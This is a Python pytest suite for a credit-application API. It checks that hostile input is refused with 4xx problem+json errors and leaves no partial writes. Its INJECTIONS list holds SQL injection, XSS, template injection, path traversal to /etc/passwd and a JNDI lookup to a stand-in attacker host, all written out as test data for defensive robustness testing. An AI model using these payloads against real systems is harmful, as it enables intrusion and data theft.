"""Hostile input gets a 4xx problem+json, never a 5xx, and nothing is half-written.

Every endpoint that takes a body or a query gets malformed JSON, the wrong top-level type, wrong
field types, missing and unknown fields, oversized bodies, huge numbers, negative amounts, odd
Unicode, injection strings and the wrong Content-Type.
"""

import json
from dataclasses import dataclass
from typing import Any

import pytest

from tests.diagrams import multipart
from tests.support import DOCUMENTS, application, open_task, start

INJECTIONS = ["' OR '1'='1' --", "1; DROP TABLE users; --", "<script>alert(1)</script>",
              "{{7*7}}${7*7}", "../../../etc/passwd", "${jndi:ldap://evil.example/a}",
              "%00", "1 UNION SELECT token_hash FROM users"]
ODD_TEXT = ["\u202egnp.exe", "😀" * 50, "x" * 100_000, "", " ", "\t\n", "ｆｕｌｌｗｉｄｔｈ",
            "e\u0301\u0301\u0301"]
HUGE_NUMBERS = ["1" + "0" * 40, "-1" + "0" * 40, "1e308", "-1e308", "1e400", "NaN", "Infinity",
                "-Infinity", "1.5", "0.0", "-1", "0", "1" + "0" * 5000]
WRONG_TYPES = {str: [12345, True, ["x"], {"x": 1}], int: ["12", 1.5, True, None, [1], {}],
               bool: ["maybe", 2.5, [], {}], dict: ["x", [1], 5, True], list: ["x", {"a": 1}, 5]}


@dataclass(frozen=True)
class Body:
    """A POST taking JSON: who may send it and a body that is valid in shape."""

    path: str
    who: str
    valid: dict[str, Any]


BODIES = [
    Body("/api/applications", "ao", application()),
    Body("/api/processes/credit_application/instances", "ao", application()),
    Body("/api/tasks/{task}/complete", "ao", {"data": DOCUMENTS}),
    Body("/api/whatif", "auditor", {"version": 1, "application_ids": [1]}),
    Body("/api/definitions/credit_application/migrations", "owner",
         {"from_version": 1, "to_version": 1, "renamed_tasks": {}, "dry_run": True}),
    Body("/api/incidents/999999/resolve", "ops", {"result": {"ok": True}, "note": "by hand"}),
    Body("/api/messages/paid_off", "core",
         {"message_id": "m-1", "business_key": "LN-2026-999999", "payload": {}}),
]

# GET endpoints with a query: who may read, the path, and the parameters they declare. Free text
# filters (`number`, `product`, `branch`, `business_key`) may also answer 200 with nothing found.
QUERIES = [
    ("auditor", "/api/applications", ["stage", "status", "number", "product", "page",
                                      "per_page"]),
    ("ao", "/api/tasks", ["role", "assigned", "status", "sort", "page", "per_page"]),
    ("auditor", "/api/applications/{application}/state", ["at"]),
    ("auditor", "/api/applications/{application}/audit", ["format"]),
    ("owner", "/api/definitions/credit_application/diff", ["from", "to"]),
    ("ops", "/api/incidents", ["status"]),
    ("core", "/api/messages", ["status", "business_key"]),
    ("auditor", "/api/loans", ["status", "branch", "number", "page", "per_page"]),
    ("auditor", "/api/reports/monthly", ["month", "format"]),
]
FREE_TEXT = {"number", "product", "branch", "business_key"}
VALID_QUERY = {"/api/applications/{application}/state": "at=1",
               "/api/definitions/credit_application/diff": "from=1&to=1",
               "/api/reports/monthly": "month=2026-11"}


@pytest.fixture
def world(client, officers):
    """An application with its open first task; requests go out as the officer named."""
    created = start(client, officers["ao"])
    ids = {"application": created["id"],
           "task": open_task(client, officers["ao"], created["id"], "collect_documents")}

    def send(method: str, path: str, who: str, **kwargs: Any):
        return client.open(path.format(**ids), method=method, headers=officers[who].headers,
                           **kwargs)

    return send


@pytest.fixture
def unchanged(world, client, officers):
    """After the test, as many applications and events as before it: nothing half-written."""

    def counts() -> tuple[int, int]:
        headers = officers["auditor"].headers
        total = client.get("/api/applications?per_page=1", headers=headers).json["total"]
        events = sum(v["events"] for v in client.get("/api/audit/verify", headers=headers).json)
        return total, events

    before = counts()
    yield
    assert counts() == before


def refused(response, *statuses: int) -> dict[str, Any]:
    """The response is a 4xx problem+json (one of `statuses` if given); returns its body."""
    where = f"{response.request.method} {response.request.path}"
    assert 400 <= response.status_code < 500, (where, response.status_code,
                                                response.get_data(as_text=True)[:300])
    assert not statuses or response.status_code in statuses, (where, response.status_code,
                                                              response.json)
    assert response.content_type == "application/problem+json", (where, response.content_type)
    body = response.json
    assert body["status"] == response.status_code and body["title"] and body["type"]
    assert "Traceback" not in response.get_data(as_text=True)
    return body


def post_raw(world, body: Body, data: str | bytes, content_type: str = "application/json"):
    return world("POST", body.path, body.who, data=data, content_type=content_type)


def test_valid_bodies_pass_the_parser_so_the_refusals_below_are_about_the_input(world):
    for body in BODIES[2:]:  # the first two would start applications
        response = world("POST", body.path, body.who, json=body.valid)
        assert response.status_code not in (400, 413, 415, 422), (body.path, response.json)


@pytest.mark.parametrize("text", ["{not json", '{"a": 1,}', '{"a": "x"', "{'a': 1}", "\x00",
                                  "[" * 100_000 + "]" * 100_000,
                                  '{"a":' * 50_000 + "1" + "}" * 50_000])
def test_malformed_json_is_400(world, unchanged, text):
    for body in BODIES:
        refused(post_raw(world, body, text), 400)


def test_invalid_utf8_is_400(world, unchanged):
    for body in BODIES:
        refused(post_raw(world, body, b'{"note": "\xff\xfe\xc3"}'), 400)


@pytest.mark.parametrize("text", ["[]", "[1, 2]", '"text"', "null", "42", "true", "{}", ""])
def test_the_wrong_top_level_type_or_nothing_is_refused_with_field_errors(world, unchanged, text):
    for body in BODIES:
        problem = refused(post_raw(world, body, text), 400, 422)
        if problem["status"] == 422:
            assert problem["errors"], (body.path, text)


def test_wrong_field_types_are_422_naming_the_field(world, unchanged):
    for body in BODIES:
        for name, good in body.valid.items():
            for bad in WRONG_TYPES[type(good)]:
                response = world("POST", body.path, body.who, json={**body.valid, name: bad})
                problem = refused(response, 422)
                assert any(name in key for key in problem["errors"]), (body.path, name, bad,
                                                                       problem["errors"])


def test_missing_required_and_unknown_fields_are_422_naming_each(world, unchanged):
    for body in BODIES:
        problem = refused(world("POST", body.path, body.who, json={}), 422)
        required = [name for name in body.valid if name not in ("renamed_tasks", "dry_run",
                                                                "payload", "application_ids",
                                                                "channel", "collateral")]
        assert set(required) <= set(problem["errors"]), (body.path, problem["errors"])
        problem = refused(world("POST", body.path, body.who,
                                json={**body.valid, "is_admin": True}), 422)
        assert "is_admin" in problem["errors"], (body.path, problem["errors"])


def test_oversized_bodies_are_413_problem_json(world, unchanged):
    big = json.dumps({"note": "x" * (2 * 1024 * 1024)})
    for body in BODIES:
        problem = refused(post_raw(world, body, big), 413)
        assert problem["title"] == "Request Entity Too Large"


def test_uploads_may_be_larger_than_json_but_not_unbounded(world, unchanged):
    eleven, content_type = multipart([("big.bpmn", b"<x/>" + b" " * (11 * 1024 * 1024))])
    for path in ("/api/definitions", "/engine-rest/deployment/create"):
        problem = refused(world("POST", path, "owner", data=eleven, content_type=content_type),
                          413)
        assert "10" in problem["detail"]  # the deploy service's own limit, with its reason
    thirteen, content_type = multipart([("big.bpmn", b" " * (13 * 1024 * 1024))])
    for path in ("/api/definitions", "/engine-rest/deployment/create"):
        refused(world("POST", path, "owner", data=thirteen, content_type=content_type), 413)


@pytest.mark.parametrize("number", HUGE_NUMBERS)
def test_huge_odd_and_negative_numbers_are_refused(world, unchanged, number):
    for body in BODIES:
        for name, good in body.valid.items():
            if type(good) is not int:
                continue
            text = json.dumps(body.valid).replace(f'"{name}": {good}', f'"{name}": {number}')
            refused(post_raw(world, body, text), 400, 422)
    amounts = json.dumps(application()).replace('"amount": 80000000', f'"amount": {number}')
    refused(post_raw(world, BODIES[0], amounts), 400, 422)


def test_nan_and_infinity_are_refused_even_inside_free_form_objects(world, unchanged):
    for literal in ("NaN", "Infinity", "-Infinity", "1e999"):
        message = '{"message_id": "m-2", "business_key": "x", "payload": {"dpd": NUMBER}}'
        message = message.replace("NUMBER", literal)
        refused(post_raw(world, BODIES[6], message), 400)
        resolve = '{"result": {"score": NUMBER}, "note": "by hand"}'.replace("NUMBER", literal)
        refused(post_raw(world, BODIES[5], resolve), 400)


@pytest.mark.parametrize("field", ["amount", "tenor_months", "applicant__monthly_income",
                                   "applicant__existing_installments", "applicant__dependents"])
def test_negative_amounts_are_422_naming_the_field(world, unchanged, field):
    problem = refused(world("POST", "/api/applications", "ao",
                            json=application(**{field: -1})), 422)
    assert field.replace("__", ".") in problem["errors"]


@pytest.mark.parametrize("escape", ["\\u0000", "\\ud800", "\\udfff", "a\\ud800b", "\\ud800\\u0041"])
def test_nul_and_lone_surrogates_are_400_in_any_string_or_key(world, unchanged, escape):
    for body in BODIES:
        for name in body.valid:
            text = json.dumps({**body.valid, name: "PLACEHOLDER"})
            refused(post_raw(world, body, text.replace("PLACEHOLDER", escape)), 400)
        keyed = json.dumps({**body.valid, "PLACEHOLDER": 1}).replace("PLACEHOLDER", escape)
        refused(post_raw(world, body, keyed), 400)


def test_odd_unicode_in_fields_is_refused_or_kept_verbatim(world, unchanged, client, officers):
    for text in ODD_TEXT:
        for body in BODIES[2:]:
            for name, good in body.valid.items():
                if isinstance(good, str):
                    response = world("POST", body.path, body.who, json={**body.valid, name: text})
                    if response.status_code >= 400:
                        refused(response)
        refused(world("POST", "/api/applications", "ao", json=application(product=text)), 422)


def test_a_name_with_bidi_emoji_and_markup_is_kept_verbatim_and_escaped_in_html(client,
                                                                                officers):
    name = "\u202eBudi 😀 <script>alert(1)</script> ' OR 1=1 --"
    created = start(client, officers["ao"], application(applicant__name=name))
    assert created["applicant_name"] == name
    page = client.get(f"/api/applications/{created['id']}/audit?format=html",
                      headers=officers["auditor"].headers)
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert len(client.get("/api/applications", headers=officers["auditor"].headers)
               .json["items"]) == 1


def test_a_repeated_id_is_refused_not_replayed_ten_thousand_times(world, unchanged):
    problem = refused(world("POST", "/api/whatif", "auditor",
                            json={"version": 1, "application_ids": [1] * 10_000}), 422)
    assert problem["errors"]["application_ids"] == ["Give each id once."]


def test_a_hundred_thousand_characters_are_422(world, unchanged):
    refused(world("POST", "/api/applications", "ao",
                  json=application(applicant__name="x" * 100_000)), 422)
    refused(world("POST", "/api/messages/paid_off", "core",
                  json={"message_id": "m" * 100_000, "business_key": "k"}), 422)
    refused(world("POST", "/api/incidents/1/resolve", "ops",
                  json={"result": {}, "note": "n" * 100_000}), 422)


@pytest.mark.parametrize("value", INJECTIONS + ["\u202e", "😀", "x" * 10_000, "-1", "0",
                                                "1" + "0" * 40, "NaN", "1e308", "1.5", ""])
def test_hostile_query_values_are_refused_or_find_nothing(world, unchanged, value):
    for who, path, params in QUERIES:
        base = VALID_QUERY.get(path)
        for param in params:
            query = f"{param}={_quote(value)}" + (f"&{base}" if base else "")
            response = world("GET", f"{path}?{query}", who)
            if param in FREE_TEXT and value and response.status_code == 200:
                found = response.json
                assert (found["total"] if isinstance(found, dict) else len(found)) == 0
            elif value == "":  # an empty filter is no filter, or refused
                assert response.status_code == 200 or refused(response, 422)
            else:
                refused(response, 400, 422)


def test_nul_in_a_path_or_query_is_400(world, unchanged):
    for path in ("/api/loans/LN%00", "/api/definitions/credit%00/versions/1",
                 "/api/loans?number=%00", "/api/messages?business_key=a%00b",
                 "/api/loans?number=LN&number=%00"):
        refused(world("GET", path, "auditor" if "messages" not in path else "core"), 400)
    refused(world("POST", "/api/messages/paid%00off", "core", json=BODIES[6].valid), 400)


@pytest.mark.parametrize("segment", INJECTIONS[:6] + ["99999999999999999999999", "-1", "1.5",
                                                      "0x10", "1e3", "%E2%80%AE1", "x" * 1000])
def test_injection_and_out_of_range_path_ids_are_404_or_422(world, unchanged, segment):
    quoted = _quote(segment)
    for method, path, who in [
        ("GET", "/api/applications/{x}", "auditor"), ("GET", "/api/applications/{x}/events",
                                                      "auditor"),
        ("POST", "/api/applications/{x}/replay", "auditor"), ("GET", "/api/tasks/{x}", "ao"),
        ("POST", "/api/tasks/{x}/claim", "ao"), ("POST", "/api/incidents/{x}/retry", "ops"),
        ("GET", "/api/loans/{x}", "auditor"), ("GET", "/api/definitions/{x}/versions/1", "owner"),
        ("GET", "/api/definitions/credit_application/versions/{x}", "owner"),
        ("POST", "/api/messages/{x}", "core"),
    ]:
        response = world(method, path.replace("{x}", quoted), who, json=BODIES[6].valid)
        refused(response, 400, 404, 405, 422)


@pytest.mark.parametrize("content_type", ["text/plain", "application/x-www-form-urlencoded",
                                          "application/xml", "multipart/form-data; boundary=x",
                                          "image/png"])
def test_the_wrong_content_type_is_refused(world, unchanged, content_type):
    for body in BODIES:
        refused(post_raw(world, body, json.dumps(body.valid).encode("utf-8"), content_type),
                400, 413, 415, 422)


def test_a_deploy_that_is_not_multipart_is_refused_and_deploys_nothing(world, unchanged, officers,
                                                                        client):
    before = client.get("/api/definitions", headers=officers["owner"].headers).json
    for path in ("/api/definitions", "/engine-rest/deployment/create"):
        for data, content_type in [('{"files": []}', "application/json"),
                                   ("--x\r\ngarbage", "multipart/form-data; boundary=x"),
                                   ("a=b", "multipart/form-data")]:
            refused(world("POST", path, "owner", data=data, content_type=content_type))
    assert client.get("/api/definitions", headers=officers["owner"].headers).json == before


def _quote(value: str) -> str:
    from urllib.parse import quote

    return value if value.startswith("%") else quote(value, safe="")
